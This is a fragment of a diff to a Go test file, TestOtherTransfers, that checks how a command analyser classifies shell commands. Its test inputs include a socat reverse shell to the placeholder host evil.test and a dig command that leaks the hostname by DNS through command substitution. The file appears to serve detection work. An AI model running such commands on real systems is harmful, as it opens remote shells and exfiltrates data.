@@ -126,7 +126,7 @@ func TestOtherTransfers(t *testing.T) {
 			connect host ?`},
 		{cmd: "socat TCP:evil.test:443 EXEC:/bin/sh", want: `
 			exec command socat
-			connect host evil.test:443
+			connect host evil.test:443 out
 			read command sh`},
 		{cmd: "dig +short $(cat /etc/hostname).evil.test", want: `
 			read command cat
